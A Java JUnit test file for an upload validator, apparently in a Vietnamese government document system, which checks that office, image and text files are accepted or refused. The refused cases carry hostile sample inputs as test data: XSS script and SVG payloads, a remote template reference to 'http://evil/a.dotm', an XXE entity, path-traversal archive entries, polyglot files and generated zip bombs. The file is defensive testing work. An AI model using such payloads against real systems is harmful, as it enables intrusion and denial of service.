package vn.angiang.plan72.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class FileCheckTest {

    private final FileCheck check = new FileCheck();

    @TempDir
    Path folder;

    static Stream<Arguments> taken() {
        return Stream.of(
                arguments("báo cáo.pdf", Samples.PDF, "application/pdf"),
                arguments("a.DOCX", Samples.docx(), FileKind.DOCX.mediaType()),
                arguments("a.xlsx", Samples.xlsx(), FileKind.XLSX.mediaType()),
                arguments("a.pptx", Samples.pptx(), FileKind.PPTX.mediaType()),
                arguments("a.doc", Samples.ole("WordDocument"), "application/msword"),
                arguments("a.xls", Samples.xls(), "application/vnd.ms-excel"),
                arguments("a.odt", Samples.odt(), FileKind.ODT.mediaType()),
                arguments("a.png", Samples.image("png"), "image/png"),
                arguments("a.jpeg", Samples.image("jpg"), "image/jpeg"),
                arguments("a.txt", Samples.utf8("Danh sách hộ nghèo\r\n"), "text/plain;charset=UTF-8"),
                arguments("a.csv", Samples.utf8("\uFEFFxã;số hộ\nAn Phú;12\n"), "text/csv;charset=UTF-8"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("taken")
    void filesOfTheListAreTakenWithOurMediaType(String name, byte[] content, String mediaType) throws Exception {
        assertThat(check.check(file(content), name).mediaType()).isEqualTo(mediaType);
    }

    static Stream<Arguments> refused() {
        byte[] html = Samples.utf8("<!DOCTYPE html><script>alert(1)</script>");
        byte[] svg = Samples.utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");
        byte[] zip = Samples.zip(Map.of("a.txt", Samples.utf8("a")));
        byte[] vba = Samples.ole("_VBA_PROJECT", "WordDocument");
        String macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
        byte[] eicar = ByteScan.EICAR;
        return Stream.of(
                arguments("trống.pdf", new byte[0], "empty"),
                arguments("a.svg", svg, "kind"),
                arguments("a.html", html, "kind"),
                arguments("a.exe", Samples.utf8("MZ"), "kind"),
                arguments("a.docm", Samples.docx(), "kind"),
                arguments("a.xlsm", Samples.xlsx(), "kind"),
                arguments("a.zip", zip, "kind"),
                arguments("a.pdf.html", Samples.PDF, "kind"),
                arguments("khong-duoi", Samples.PDF, "kind"),
                arguments("html.pdf", html, "content"),
                arguments("svg.png", svg, "content"),
                arguments("html.txt", html, "content"),
                arguments("svg.csv", Samples.join(Samples.utf8("\uFEFF \n"), svg), "content"),
                arguments("zip.docx", zip, "content"),
                arguments("zip.odt", zip, "content"),
                arguments("xlsx.docx", Samples.xlsx(), "content"),
                arguments("docx.xlsx", Samples.docx(), "content"),
                arguments("xls.doc", Samples.xls(), "content"),
                arguments("png.jpg", Samples.image("png"), "content"),
                arguments("png-va-zip.png", Samples.join(Samples.image("png"), zip), "content"),
                arguments("jpg-va-zip.jpg", Samples.join(Samples.image("jpg"), zip), "content"),
                arguments("pdf-va-zip.pdf", Samples.join(Samples.PDF, zip), "content"),
                arguments("pdf-cut.pdf", Samples.utf8("%PDF-1.7 only a head"), "content"),
                arguments("truoc.docx", Samples.join(Samples.utf8("#!/bin/sh\n"), Samples.docx()), "content"),
                arguments("nul.txt", Samples.utf8("a\0b"), "text"),
                arguments("tcvn3.txt", new byte[] {'H', (byte) 0xE5, ' ', 's'}, "text"),
                arguments("utf16.txt", "hộ nghèo".getBytes(StandardCharsets.UTF_16), "text"),
                arguments("eicar.txt", eicar, "malware"),
                arguments("eicar.pdf", Samples.join(Samples.PDF, eicar, Samples.PDF), "malware"),
                arguments("docm.docx", Samples.container(macroType, Map.of("word/vbaProject.bin", vba)), "macros"),
                arguments("loai-macro.docx", Samples.container(macroType, Map.of()), "macros"),
                arguments("ten-khac.docx", Samples.container(Samples.DOCX_TYPE, Map.of("word/x.bin", vba)), "macros"),
                arguments("macro.doc", vba, "macros"),
                arguments("mat-khau.docx", Samples.ole("EncryptedPackage"), "content"),
                arguments("mat-khau.xls", Samples.ole("EncryptedPackage", "Workbook"), "password"),
                arguments("an.docx", Samples.container(Samples.DOCX_TYPE + "\" x=\"&#109;", Map.of()), "content"),
                arguments("eicar.docx", Samples.container(Samples.DOCX_TYPE, Map.of("word/a.xml", eicar)), "malware"),
                arguments("nested.xlsx", Samples.container(Samples.XLSX_TYPE, Map.of("xl/a.bin", zip)), "nested"),
                arguments("thoat.xlsx", Samples.container(Samples.XLSX_TYPE, Map.of("../../a.xml", zip)), "content"),
                arguments("goc.xlsx", Samples.container(Samples.XLSX_TYPE, Map.of("/etc/a", zip)), "content"),
                arguments("gach.xlsx", Samples.container(Samples.XLSX_TYPE, Map.of("a\\b", zip)), "content"),
                arguments(
                        "mau-tren-mang.docx",
                        Samples.container(
                                Samples.DOCX_TYPE,
                                Map.of(
                                        "word/_rels/settings.xml.rels",
                                        Samples.utf8("<Relationships xmlns=\"http://x\"><Relationship"
                                                + " Type=\"http://x/attachedTemplate\" Target=\"http://evil/a.dotm\""
                                                + " TargetMode=\"External\"/></Relationships>"))),
                        "macros"),
                arguments(
                        "dtd.docx",
                        Samples.container(
                                Samples.DOCX_TYPE,
                                Map.of("_rels/.rels", Samples.utf8("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///'>]>"))),
                        "content"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void everythingElseIsRefusedWithItsReason(String name, byte[] content, String reason) {
        assertRefused(name, file(content), reason);
    }

    @Test
    void anOrdinaryTemplateReferenceIsNotAMacro() throws Exception {
        byte[] rels = Samples.utf8("<Relationships xmlns=\"http://x\"><Relationship"
                + " Type=\"http://x/attachedTemplate\" Target=\"file:///C:/Normal.dotx\"/><Relationship"
                + " Type=\"http://x/hyperlink\" Target=\"http://angiang.gov.vn\"/></Relationships>");
        byte[] docx = Samples.container(Samples.DOCX_TYPE, Map.of("word/_rels/settings.xml.rels", rels));
        assertThat(check.check(file(docx), "a.docx")).isEqualTo(FileKind.DOCX);
    }

    @Test
    void aSpreadsheetThatUnpacksToAGigabyteIsRefusedCheaply() throws Exception {
        Path bomb = zipBomb(64, 16 * 1024 * 1024);
        assertThat(Files.size(bomb)).isLessThan(2 * 1024 * 1024);
        assertFast(() -> assertRefused("bom.xlsx", bomb, "bomb"));
    }

    @Test
    void aMillionEntriesAreRefusedCheaply() throws Exception {
        Path many = folder.resolve("many");
        try (var zip = new ZipOutputStream(new BufferedOutputStream(Files.newOutputStream(many)))) {
            zip.setMethod(ZipOutputStream.STORED);
            for (int i = 0; i < 1_000_000; i++) {
                var entry = new ZipEntry(Integer.toString(i, 36));
                entry.setSize(0);
                entry.setCrc(0);
                zip.putNextEntry(entry);
            }
        }
        assertFast(() -> assertRefused("nhieu.xlsx", many, "bomb"));
    }

    @Test
    void aContainerWhoseDirectoryAndContentDifferIsRefused() throws Exception {
        // Two archives glued together: a stream reader sees the first, a directory reader the second.
        byte[] shown = Samples.docx();
        byte[] hidden = Samples.zip(new LinkedHashMap<>(Map.of("word/other.xml", Samples.utf8("x"))));
        assertRefused("hai-mat.docx", file(Samples.join(shown, hidden)), "content");
    }

    @Test
    void aDamagedContainerIsRefusedNotFailed() {
        byte[] whole = Samples.xlsx();
        for (int cut : List.of(5, 30, 100, whole.length / 2, whole.length - 3)) {
            assertRefused("hong.xlsx", file(java.util.Arrays.copyOf(whole, cut)), "content");
        }
    }

    private Path zipBomb(int entries, int each) throws IOException {
        Path file = folder.resolve("bomb");
        var zeros = new byte[each];
        try (var zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(Samples.utf8(Samples.XLSX_TYPE));
            for (int i = 0; i < entries; i++) {
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet" + i + ".xml"));
                zip.write(zeros);
            }
        }
        return file;
    }

    private void assertRefused(String name, Path file, String reason) {
        var refused = catchThrowableOfType(FileRefused.class, () -> check.check(file, name));
        assertThat(refused).as("%s is refused", name).isNotNull();
        assertThat(refused.messageKey()).isEqualTo("document.refused." + reason);
    }

    private static void assertFast(Runnable act) {
        long start = System.nanoTime();
        act.run();
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(8));
    }

    private Path file(byte[] content) {
        try {
            return Files.write(Files.createTempFile(folder, "a", "b"), content);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
